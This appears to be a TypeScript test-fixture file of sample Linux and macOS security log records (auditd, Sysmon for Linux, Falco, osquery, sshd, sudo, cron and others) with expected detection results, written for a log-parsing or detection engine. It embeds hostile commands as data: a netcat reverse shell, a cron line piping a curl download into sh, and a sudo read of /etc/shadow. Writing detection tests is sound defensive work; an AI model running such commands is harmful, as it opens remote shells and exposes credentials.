/** Linux and macOS hosts as their programs and the shippers on the way write them. */
import type { Row, Told } from "./network.ts";

const TIME = "2026-05-04T10:20:30.123Z";
const netcat: Told = { rules: ["netcat"], has: ["file/actor=/usr/bin/nc"] };
const COMMAND = "nc -e /bin/sh 203.0.113.9 4444";
const failed: Told = { rules: ["sshd"], has: ["ip/src=203.0.113.9", "host/device=web01"], outcome: "failure" };
const sudone: Told = { rules: ["sudo"], has: ["user/actor=mallory", "host/device=web01"] };
const cronned: Told = { rules: ["cron"], has: ["user/actor=root", "host/device=web01"] };
const SAID = "Failed password for invalid user oracle from 203.0.113.9 port 51234 ssh2";
const SUDO = "mallory : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow";
const CRON = "(root) CMD (curl http://203.0.113.9/x | sh)";
const agent = { agent: { type: "filebeat", version: "8.11.0" }, ecs: { version: "8.0.0" }, input: { type: "log" } };
const only = (name: string, record: string | object, told: Told): Row => ({ name, record, ...told });

const STAMP = "audit(1777890030.123:77)";
const SYSCALL = `type=SYSCALL msg=${STAMP}: arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=55 a2=55 a3=0 items=2 ppid=8 pid=9 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc" subj=unconfined key="exec"`;
const EXECVE = `type=EXECVE msg=${STAMP}: argc=5 a0="nc" a1="-e" a2="/bin/sh" a3="203.0.113.9" a4="4444"`;
const PROCTITLE = `type=PROCTITLE msg=${STAMP}: proctitle=6E63002D65002F62696E2F7368003230332E302E3131332E390034343434`;
const block = [SYSCALL, EXECVE, `type=CWD msg=${STAMP}: cwd="/tmp"`, PROCTITLE].join("\n");
const LAUREL = {
  ID: "1777890030.123:77",
  NODE: "web01",
  SYSCALL: {
    arch: "0xc000003e",
    syscall: 59,
    success: "yes",
    exit: 0,
    items: 2,
    ppid: 8,
    pid: 9,
    auid: 1000,
    uid: 0,
    gid: 0,
    euid: 0,
    tty: "pts0",
    ses: 3,
    comm: "nc",
    exe: "/usr/bin/nc",
    key: "exec",
    ARCH: "x86_64",
    SYSCALL: "execve",
    AUID: "mallory",
    UID: "root",
  },
  EXECVE: { argc: 5, ARGV: ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"] },
  CWD: { cwd: "/tmp" },
  PATH: [{ item: 0, name: "/usr/bin/nc", inode: 1, nametype: "NORMAL" }],
  PROCTITLE: { ARGV: ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"] },
  PARENT_INFO: { ID: "1777890000.1:70", ARGV: ["bash"], exe: "/usr/bin/bash" },
};
const sysmonXml = `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-05-04T10:20:30.123000000Z"/><EventRecordID>7</EventRecordID><Correlation/><Execution ProcessID="5" ThreadID="5"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-05-04 10:20:30.123</Data><Data Name="ProcessGuid">{a}</Data><Data Name="ProcessId">9</Data><Data Name="Image">/usr/bin/nc</Data><Data Name="CommandLine">${COMMAND}</Data><Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data><Data Name="ParentProcessId">8</Data><Data Name="ParentImage">/usr/bin/bash</Data></EventData></Event>`;
const journal = {
  ...{ __CURSOR: "s", __REALTIME_TIMESTAMP: "1777890030123000", _BOOT_ID: "b", _HOSTNAME: "web01", PRIORITY: "6" },
  ...{
    SYSLOG_FACILITY: "10",
    SYSLOG_IDENTIFIER: "sshd",
    _PID: "812",
    _COMM: "sshd",
    MESSAGE: SAID,
    _TRANSPORT: "syslog",
  },
};
const beat = (event: object, rest: object): object => ({
  ...{
    "@timestamp": TIME,
    ...agent,
    agent: { type: "auditbeat", version: "8.11.0" },
    host: { name: "web01", os: { type: "linux" } },
  },
  ...{ event: { kind: "event", ...event }, ...rest },
});

const auditd: readonly Row[] = [
  only("auditd: block", block, { rules: ["netcat", "executed"], has: netcat.has, outcome: "success" }),
  only("auditd: block with node", block.replaceAll("type=", "node=web01 type="), {
    rules: ["netcat", "executed"],
    has: [...netcat.has, "host/device=web01"],
  }),
  only("auditd: EXECVE alone", EXECVE, { rules: ["executed"], has: [] }),
  only("auditd: EXECVE in syslog of audisp", `<13>May  4 10:20:30 web01 audispd: ${EXECVE}`, {
    rules: ["executed"],
    has: ["host/device=web01"],
  }),
  only(
    "auditd: EXECVE in syslog of audisp-syslog",
    `<13>1 2026-05-04T10:20:30.123Z web01 audisp-syslog 812 - - ${EXECVE}`,
    { rules: ["executed"], has: ["host/device=web01"] },
  ),
  only("auditd: EXECVE in rsyslog", `May  4 10:20:30 web01 tag_audit_log: ${EXECVE}`, {
    rules: ["executed"],
    has: ["host/device=web01"],
  }),
  only(
    "auditd: EXECVE in Filebeat",
    { "@timestamp": TIME, ...agent, host: { name: "web01" }, message: EXECVE },
    { rules: ["executed"], has: ["host/device=web01"] },
  ),
  only(
    "auditd: EXECVE in Splunk",
    { preview: false, result: { _raw: EXECVE, _time: TIME, host: "web01", sourcetype: "linux:audit" } },
    { rules: ["executed"], has: ["host/device=web01"] },
  ),
  only(
    "auditd: EXECVE in Wazuh",
    {
      timestamp: TIME,
      agent: { id: "002", name: "web01" },
      manager: { name: "w" },
      id: "1.2",
      full_log: EXECVE,
      decoder: { name: "auditd" },
      location: "/var/log/audit/audit.log",
    },
    { rules: ["executed"], has: ["host/device=web01"] },
  ),
  only("laurel", LAUREL, { rules: ["netcat"], has: [...netcat.has, "host/device=web01"], outcome: "success" }),
  only("laurel in syslog", `<13>May  4 10:20:30 web01 laurel: ${JSON.stringify(LAUREL)}`, netcat),
  only("laurel in Filebeat", { "@timestamp": TIME, ...agent, message: JSON.stringify(LAUREL) }, netcat),
  only(
    "Auditbeat: auditd module",
    beat(
      { module: "auditd", category: ["process"], type: ["start"], action: "executed", outcome: "success" },
      {
        auditd: {
          message_type: "syscall",
          sequence: 77,
          result: "success",
          data: { syscall: "execve", a0: "55", argc: "5" },
        },
        process: {
          executable: "/usr/bin/nc",
          name: "nc",
          pid: 9,
          args: ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
          parent: { pid: 8 },
          title: COMMAND,
        },
        user: { id: "0", name: "root" },
      },
    ),
    { rules: ["netcat"], has: [...netcat.has, "host/device=web01", "user/actor=root"], outcome: "success" },
  ),
  only(
    "Auditbeat: system module",
    beat(
      { module: "system", dataset: "process", category: ["process"], type: ["start"], action: "process_started" },
      {
        process: {
          executable: "/usr/bin/nc",
          name: "nc",
          pid: 9,
          args: ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
          entity_id: "x",
        },
        user: { id: "0", name: "root" },
      },
    ),
    netcat,
  ),
  only(
    "Filebeat's auditd module",
    {
      "@timestamp": TIME,
      ...agent,
      host: { name: "web01" },
      event: { module: "auditd", dataset: "auditd.log", action: "execve", kind: "event" },
      auditd: { log: { sequence: 77, a0: "nc", a1: "-e", a2: "/bin/sh", argc: "5", record_type: "EXECVE" } },
    },
    { rules: ["executed"], has: ["host/device=web01"] },
  ),
];

const said: readonly Row[] = [
  only("sshd-session", `May  4 10:20:30 web01 sshd-session[812]: ${SAID}`, failed),
  only("sshd, IETF", `<86>1 2026-05-04T10:20:30.123Z web01 sshd 812 - - ${SAID}`, failed),
  only("sshd, ISO time", `2026-05-04T10:20:30.123456+00:00 web01 sshd[812]: ${SAID}`, failed),
  only("sshd: journal", journal, failed),
  only(
    "sshd: journal in Filebeat's journald",
    {
      "@timestamp": TIME,
      ...agent,
      host: { hostname: "web01" },
      journald: { custom: {}, host: { boot_id: "b" }, pid: 812, process: { name: "sshd" } },
      syslog: { identifier: "sshd", facility: 10, priority: 6 },
      process: { pid: 812, name: "sshd" },
      message: SAID,
    },
    failed,
  ),
  only(
    "sshd: journal in Fluent Bit",
    {
      date: 1777890030.123,
      PRIORITY: "6",
      _HOSTNAME: "web01",
      SYSLOG_IDENTIFIER: "sshd",
      _PID: "812",
      _COMM: "sshd",
      MESSAGE: SAID,
    },
    failed,
  ),
  only(
    "sshd: journal in Vector",
    {
      host: "web01",
      message: SAID,
      PRIORITY: "6",
      SYSLOG_IDENTIFIER: "sshd",
      _PID: "812",
      __REALTIME_TIMESTAMP: "1777890030123000",
      source_type: "journald",
      timestamp: TIME,
    },
    failed,
  ),
  only(
    "sshd: journal in promtail",
    { labels: { unit: "ssh.service" }, timestamp: TIME, line: `May  4 10:20:30 web01 sshd[812]: ${SAID}` },
    failed,
  ),
  only("sudo", `May  4 10:20:30 web01 sudo: ${SUDO}`, sudone),
  only("sudo: aligned", `May  4 10:20:30 web01 sudo[9]:   ${SUDO}`, sudone),
  only("sudo: journal", { ...journal, SYSLOG_IDENTIFIER: "sudo", _COMM: "sudo", MESSAGE: SUDO }, sudone),
  only(
    "sudo: ECS system module with message",
    {
      "@timestamp": TIME,
      ...agent,
      host: { hostname: "web01", name: "web01" },
      event: { dataset: "system.auth", module: "system" },
      process: { name: "sudo", pid: 9 },
      message: SUDO,
    },
    sudone,
  ),
  only("cron", `May  4 10:20:30 web01 CRON[812]: ${CRON}`, cronned),
  only("cron: journal", { ...journal, SYSLOG_IDENTIFIER: "CRON", _COMM: "cron", MESSAGE: CRON }, cronned),
  only(
    "cron of busybox",
    `<78>May  4 10:20:30 web01 crond[812]: USER root pid 77 cmd curl http://203.0.113.9/x`,
    cronned,
  ),
  only("su", "May  4 10:20:30 web01 su[812]: FAILED SU (to root) mallory on pts/0", {
    rules: [],
    has: ["host/device=web01", "user/actor=mallory", "user/target=root"],
    outcome: "failure",
  }),
  only(
    "su: pam",
    "May  4 10:20:30 web01 su: pam_unix(su:auth): authentication failure; logname=mallory uid=1000 euid=0 tty=pts/0 ruser=mallory rhost=  user=root",
    { rules: [], has: ["host/device=web01", "user/target=root"], outcome: "failure" },
  ),
  only("fail2ban", "2026-05-04 10:20:30,123 fail2ban.actions        [812]: NOTICE  [sshd] Ban 203.0.113.9", {
    rules: [],
    has: ["ip/src=203.0.113.9"],
  }),
  only("fail2ban in syslog", "May  4 10:20:30 web01 fail2ban.actions[812]: NOTICE [sshd] Ban 203.0.113.9", {
    rules: [],
    has: ["host/device=web01", "ip/src=203.0.113.9"],
  }),
];

const programs: readonly Row[] = [
  only("Sysmon for Linux", sysmonXml, { ...netcat, has: [...netcat.has, "host/device=web01"] }),
  only("Sysmon for Linux in syslog", `<14>May  4 10:20:30 web01 sysmon: ${sysmonXml}`, netcat),
  only("Sysmon for Linux in syslog with pid", `May  4 10:20:30 web01 sysmon[812]: ${sysmonXml}`, netcat),
  only(
    "Sysmon for Linux: journal",
    { ...journal, SYSLOG_IDENTIFIER: "sysmon", _COMM: "sysmon", MESSAGE: sysmonXml },
    netcat,
  ),
  only(
    "Sysmon for Linux in Filebeat",
    { "@timestamp": TIME, ...agent, message: `May  4 10:20:30 web01 sysmon: ${sysmonXml}` },
    netcat,
  ),
  only(
    "Sysmon for Linux of Elastic Agent",
    {
      "@timestamp": TIME,
      ...agent,
      event: { original: sysmonXml, module: "sysmon_linux", dataset: "sysmon_linux.log" },
    },
    netcat,
  ),
  only(
    "Sysmon for Linux taken apart by the Agent",
    {
      "@timestamp": TIME,
      ...agent,
      host: { name: "web01" },
      event: {
        code: "1",
        kind: "event",
        category: ["process"],
        type: ["start"],
        action: "log",
        provider: "Linux-Sysmon",
        dataset: "sysmon_linux.log",
      },
      process: {
        executable: "/usr/bin/nc",
        command_line: COMMAND,
        args: ["nc"],
        pid: 9,
        entity_id: "{a}",
        parent: { executable: "/usr/bin/bash" },
      },
      user: { name: "root" },
      winlog: {
        channel: "Linux-Sysmon/Operational",
        computer_name: "web01",
        event_id: "1",
        provider_name: "Linux-Sysmon",
        event_data: {},
      },
    },
    netcat,
  ),
  only(
    "Falco",
    {
      uuid: "u",
      output: `10:20:30.123: Notice A shell (proc=${COMMAND})`,
      priority: "Notice",
      rule: "Netcat Remote Code Execution in Container",
      source: "syscall",
      tags: ["container", "mitre_execution"],
      time: TIME,
      hostname: "web01",
      output_fields: {
        "container.id": "c",
        "evt.time": 1777890030123000000,
        "proc.cmdline": COMMAND,
        "proc.exepath": "/usr/bin/nc",
        "proc.name": "nc",
        "user.name": "root",
      },
    },
    { rules: [], has: ["host/device=web01", "user/actor=root", "file/actor=/usr/bin/nc"] },
  ),
  only(
    "Falco through Falcosidekick in syslog",
    `<14>May  4 10:20:30 web01 falco: ${JSON.stringify({ output: "x", priority: "Notice", rule: "Netcat Remote Code Execution in Container", source: "syscall", time: TIME, hostname: "web01", output_fields: { "proc.exepath": "/usr/bin/nc", "user.name": "root" } })}`,
    { rules: [], has: ["host/device=web01", "user/actor=root"] },
  ),
  only(
    "osquery: snapshot",
    {
      action: "snapshot",
      name: "pack_it_users",
      hostIdentifier: "web01",
      calendarTime: "Mon May  4 10:20:30 2026 UTC",
      unixTime: 1777890030,
      epoch: 0,
      counter: 0,
      numerics: false,
      snapshot: [{ username: "mallory", uid: "1000", path: "/home/mallory" }],
    },
    { rules: [], has: ["host/device=web01", "user/actor=mallory"] },
  ),
  only(
    "osquery: differential in batch",
    {
      name: "pack_it_users",
      hostIdentifier: "web01",
      calendarTime: "Mon May  4 10:20:30 2026 UTC",
      unixTime: 1777890030,
      diffResults: { added: [{ username: "mallory", uid: "1000" }], removed: "" },
    },
    { rules: [], has: ["host/device=web01", "user/actor=mallory"] },
  ),
  only(
    "osquery in Filebeat's module",
    {
      "@timestamp": TIME,
      ...agent,
      event: {
        module: "osquery",
        dataset: "osquery.result",
        original: JSON.stringify({
          name: "pack_bpf_process_events",
          hostIdentifier: "web01",
          calendarTime: "Mon May  4 10:20:30 2026 UTC",
          unixTime: 1777890030,
          action: "added",
          columns: { cmdline: COMMAND, path: "/usr/bin/nc", pid: "9", parent: "8", syscall: "exec" },
        }),
      },
    },
    { ...netcat, has: ["host/device=web01"] },
  ),
  only(
    "osquery: columns of Filebeat's module",
    {
      "@timestamp": TIME,
      ...agent,
      event: { module: "osquery", dataset: "osquery.result" },
      osquery: {
        result: {
          name: "pack_bpf_process_events",
          action: "added",
          host_identifier: "web01",
          unix_time: "1777890030",
          calendar_time: "Mon May  4 10:20:30 2026 UTC",
          columns: { cmdline: COMMAND, path: "/usr/bin/nc", pid: "9", parent: "8", syscall: "exec" },
        },
      },
    },
    { ...netcat, has: ["host/device=web01"] },
  ),
  only(
    "eslogger",
    {
      schema_version: 1,
      version: 9,
      mach_time: 7,
      global_seq_num: 9,
      seq_num: 9,
      event_type: 9,
      time: TIME,
      process: { ppid: 1, executable: { path: "/bin/zsh" }, audit_token: { pid: 8, euid: 501 } },
      event: {
        exec: {
          args: ["nc", "-e", "/bin/sh"],
          cwd: { path: "/tmp" },
          target: { executable: { path: "/usr/bin/nc" }, ppid: 8, audit_token: { pid: 9, euid: 501 } },
        },
      },
    },
    { rules: ["macos"], has: ["file/object=/usr/bin/nc"] },
  ),
  only(
    "eslogger in Filebeat",
    {
      "@timestamp": TIME,
      ...agent,
      host: { name: "mac1" },
      message: JSON.stringify({
        schema_version: 1,
        mach_time: 7,
        global_seq_num: 9,
        event_type: 9,
        time: TIME,
        process: { ppid: 1, executable: { path: "/bin/zsh" }, audit_token: { pid: 8, euid: 501 } },
        event: {
          exec: {
            args: ["nc", "-e", "/bin/sh"],
            target: { executable: { path: "/usr/bin/nc" }, ppid: 8, audit_token: { pid: 9, euid: 501 } },
          },
        },
      }),
    },
    { rules: ["macos"], has: ["file/object=/usr/bin/nc", "host/device=mac1"] },
  ),
];

export const linux: readonly Row[] = [...auditd, ...said, ...programs];
